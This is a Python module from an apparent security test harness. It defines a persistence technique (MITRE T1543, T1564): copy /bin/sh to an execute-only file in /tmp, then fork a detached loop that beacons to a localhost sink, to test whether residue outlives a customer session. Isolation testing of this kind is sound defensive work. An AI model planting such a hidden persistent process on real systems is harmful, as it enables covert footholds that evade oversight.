"""Leaves a program that no user can read: the kernel hides its memory and links."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Alive
from dayfly.lab.gauntlet.technique import Technique

PLANT = """
import shutil
shutil.copy("/bin/sh", "/tmp/sh")
os.chmod("/tmp/sh", 0o111)
if os.fork() == 0:
    os.setsid()
    os.execv("/tmp/sh", [
    "sh", "-c", 'while :; do "$0" -S -c "$1"; done', sys.executable,
    "import socket; socket.socket(2, 2).sendto(b'alive', ('127.0.0.1', %d))" % event["sink"],
])
time.sleep(0.1)
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1543", "T1564"),
    family="M10",
    must_fail_to="run while a later customer is served",
    plant=PLANT,
    evidence=Alive(takes=0.2),
    ends_window=True,
    spoils=True,
    finding="residue.process",
)
